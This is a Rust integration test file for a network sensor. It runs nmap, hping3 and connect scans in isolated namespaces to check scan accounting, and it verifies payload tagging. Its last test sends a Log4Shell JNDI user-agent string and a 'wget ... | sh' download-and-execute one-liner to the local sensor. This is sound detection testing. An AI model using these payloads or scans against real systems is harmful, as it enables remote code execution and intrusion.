//! End-to-end scan accounting: a sensor host with `redirect apply --syn-log` and a scanning
//! peer joined by a veth pair, the real binary, real scanners (nmap, hping3).
//! - `nmap -sS` (nftables) and `hping3 -S` (iptables) (SYN, then RST after our SYN-ACK: never accepted) → one summary record with
//!   SYN-only counts and distinct ports, tagged `scanner` and `spoofable`;
//! - a 10,000-port connect scan from one address with a low per-source limit → every
//!   connection accounted for in the summary (accepted + shed), none SYN-only.

mod common;

use common::{Netns, SENSOR_PORT, Sensor};
use serde_json::Value;
use socket2::{Domain, Socket, Type};
use std::net::SocketAddr;
use std::time::{Duration, Instant};

const HOST4: &str = "10.214.0.1";
const PEER4: &str = "10.214.0.2";
const SYN_LOG_GROUP: &str = "7";

/// Sensor host and scanning peer on a veth pair, the host with spip's rules and SYN log
/// installed by `redirect apply --syn-log` with `backend` (nftables or iptables).
fn host_and_peer(backend: &str) -> (Netns, Netns) {
    let (host, peer) = common::host_and_peer(&[&format!("{HOST4}/24")], &[&format!("{PEER4}/24")]);
    host.redirect("apply", &["--backend", backend, "--syn-log", SYN_LOG_GROUP]);
    (host, peer)
}

/// The sensor with summaries every `interval` seconds and the SYN log on, and its counters on
/// stderr every second (a test waits there for the SYNs it sent to be read from the log).
fn start_sensor(host: &Netns, interval: u32, extra: &str) -> Sensor {
    let cfg = format!(
        "scan_summaries = true\nsyn_log_group = {SYN_LOG_GROUP}\nstats_interval_seconds = 1\n\
         scan_summary_interval_seconds = {interval}\nscan_summary_scanner_ports = 25\n{extra}"
    );
    Sensor::start(host, &cfg)
}

/// Stops the sensor (which writes the last interval's summaries) and returns the summary of
/// `source` and the connection records from it.
fn summary_after_stop(sensor: &mut Sensor, source: &str) -> (Value, Vec<Value>) {
    let (code, stderr) = sensor.stop();
    assert_eq!(code, 0, "{stderr}");
    let records = sensor.records();
    let (summaries, connections): (Vec<Value>, Vec<Value>) = records
        .into_iter()
        .filter(|r| r["source"]["ip"] == source)
        .partition(|r| r["event"]["kind"] == "metric");
    assert_eq!(summaries.len(), 1, "one summary per source: {summaries:?}");
    (summaries[0].clone(), connections)
}

fn tags(v: &Value) -> Vec<&str> {
    v["tags"]
        .as_array()
        .map(|a| a.iter().filter_map(Value::as_str).collect())
        .unwrap_or_default()
}

fn nmap_syn_scan_yields_a_syn_only_summary_tagged_scanner() {
    let (host, peer) = host_and_peer("nftables");
    let mut sensor = start_sensor(&host, 600, "");
    let out = peer.run(&[
        "nmap",
        "-sS",
        "-n",
        "-Pn",
        "-T5",
        "--max-retries",
        "0",
        "-p",
        "20001-23000",
        HOST4,
    ]);
    assert!(out.status.success());
    // The kernel batches the log: wait until the sensor has read every SYN.
    sensor.wait_stat("syn_logged", 3000);
    let (summary, connections) = summary_after_stop(&mut sensor, PEER4);
    let scan = &summary["spip"]["scan"];
    assert!(connections.is_empty(), "SYN scans never reach accept()");
    assert_eq!(scan["accepted"], 0, "{summary}");
    assert_eq!(scan["syn_only"], 3000, "{summary}");
    let distinct = scan["distinct_ports"].as_u64().unwrap();
    assert!((2700..=3300).contains(&distinct), "{summary}");
    assert_eq!(scan["first_ports"].as_array().unwrap().len(), 16);
    assert_eq!(tags(&summary), ["scanner", "spoofable"], "{summary}");
    assert_eq!(summary["event"]["dataset"], "spip.scan_summary");
}

/// With the iptables backend (an NFLOG target in spip's nat chain).
fn hping3_syn_flood_from_one_source_is_counted_syn_only() {
    let (host, peer) = host_and_peer("iptables");
    // One-second intervals: the flood spans several, each summary says its own share.
    let mut sensor = start_sensor(&host, 1, "");
    // 500 SYNs to ports 40000, 40001, ... ; the peer's kernel resets each SYN-ACK.
    let out = peer
        .cmd(&[
            "hping3", "-S", "-q", "-p", "++40000", "-c", "500", "-i", "u2000", HOST4,
        ])
        .output()
        .unwrap();
    // hping3 exits 1 when a reply was missing; the counts below are what matter.
    assert!(out.status.code().is_some(), "{out:?}");
    // Summaries come every interval, not only at shutdown.
    sensor.wait_until("a periodic summary", |recs| {
        recs.iter().any(|r| r["event"]["kind"] == "metric")
    });
    sensor.wait_stat("syn_logged", 500);
    let (code, stderr) = sensor.stop();
    assert_eq!(code, 0, "{stderr}");
    let records = sensor.records();
    let summaries: Vec<&Value> = records
        .iter()
        .filter(|r| r["source"]["ip"] == PEER4 && r["event"]["kind"] == "metric")
        .collect();
    assert!(
        !summaries.is_empty() && summaries.len() == records.len(),
        "{records:?}"
    );
    let total = |key: &str| -> u64 {
        summaries
            .iter()
            .map(|r| r["spip"]["scan"][key].as_u64().unwrap())
            .sum()
    };
    assert_eq!(total("syn_only"), 500, "{summaries:?}");
    assert_eq!(total("accepted"), 0);
    assert!(summaries.iter().all(|r| tags(r).contains(&"spoofable")));
    assert!(summaries.iter().any(|r| tags(r).contains(&"scanner")));
}

fn connect_scan_of_10000_ports_is_fully_accounted_despite_the_per_source_limit() {
    let (host, peer) = host_and_peer("nftables");
    let mut sensor = start_sensor(
        &host,
        600,
        "per_source_rate_per_second = 100\nper_source_burst = 200\n",
    );
    let (connected, reset) = peer.within(|| {
        let deadline = Instant::now() + Duration::from_secs(120);
        let (mut connected, mut reset) = (0u64, 0u64);
        for i in 0..10_000u16 {
            // Each from its own source port, below the ephemeral range: after the REDIRECT all
            // land on the sensor port, so no two may share a source port while one lingers.
            let from: SocketAddr = format!("{PEER4}:{}", 2_000 + i).parse().unwrap();
            let to: SocketAddr = format!("{HOST4}:{}", 30_001 + i).parse().unwrap();
            let socket = Socket::new(Domain::IPV4, Type::STREAM, None).unwrap();
            socket.bind(&from.into()).unwrap();
            match socket.connect_timeout(&to.into(), Duration::from_secs(2)) {
                Ok(()) => connected += 1,
                // Shed at once (RST right after accept): the reset can beat connect()'s poll.
                Err(e) if e.kind() == std::io::ErrorKind::ConnectionReset => reset += 1,
                Err(e) => panic!("connect {from} -> {to}: {e}"),
            }
            assert!(Instant::now() < deadline, "connect scan took too long");
        }
        (connected, reset)
    });
    assert_eq!(
        connected + reset,
        10_000,
        "every attempt completed a handshake"
    );
    // The handshake completes before accept(): wait until the sensor accepted (or shed) every
    // connection and read every SYN from the log.
    sensor.wait_stat("accepted", 10_000);
    sensor.wait_stat("syn_logged", 10_000);
    let (summary, connections) = summary_after_stop(&mut sensor, PEER4);
    let scan = &summary["spip"]["scan"];
    let accepted = scan["accepted"].as_u64().unwrap();
    let shed = scan["shed"].as_u64().unwrap();
    assert_eq!(accepted + shed, 10_000, "{summary}");
    assert!(
        shed > 0,
        "the per-source limit must have shed some: {summary}"
    );
    assert_eq!(
        scan["syn_only"], 0,
        "accepted SYNs are not SYN-only: {summary}"
    );
    assert_eq!(scan["syns_logged"], 10_000, "{summary}");
    assert_eq!(
        scan["empty"].as_u64().unwrap() + scan["with_payload"].as_u64().unwrap(),
        accepted,
        "{summary}"
    );
    // Only admitted connections get records of their own.
    assert_eq!(connections.len() as u64, accepted, "{summary}");
    let distinct = scan["distinct_ports"].as_u64().unwrap();
    assert!((9000..=11_000).contains(&distinct), "{summary}");
    assert_eq!(tags(&summary), ["scanner"], "{summary}");
}

/// Payload tags on connection records: curl with a Log4Shell user agent, and a shell
/// one-liner on a raw port.
fn payload_tags_on_real_connections() {
    let ns = Netns::sensor_host(SENSOR_PORT, &[]);
    let sensor = Sensor::start(&ns, "");
    ns.run(&[
        "curl",
        "-s",
        "-m",
        "20",
        "-o",
        "/dev/null",
        "-H",
        "User-Agent: ${jndi:ldap://203.0.113.9/a}",
        "http://127.0.0.1:8081/",
    ]);
    ns.within(|| {
        common::exchange(
            "127.0.0.1:4444".parse().unwrap(),
            &[b"cd /tmp; wget http://203.0.113.9/a.sh -O- | sh\n"],
            Duration::from_millis(300),
        )
    });
    let http = &sensor.record_to(8081);
    assert_eq!(tags(http), ["log4shell"], "{http}");
    let shell = &sensor.record_to(4444);
    assert_eq!(tags(shell), ["downloader", "download_exec"], "{shell}");
}

common::test_main! {
    needs_root: [
        payload_tags_on_real_connections,
        nmap_syn_scan_yields_a_syn_only_summary_tagged_scanner,
        hping3_syn_flood_from_one_source_is_counted_syn_only,
        connect_scan_of_10000_ports_is_fully_accounted_despite_the_per_source_limit,
    ],
    no_root: [],
}
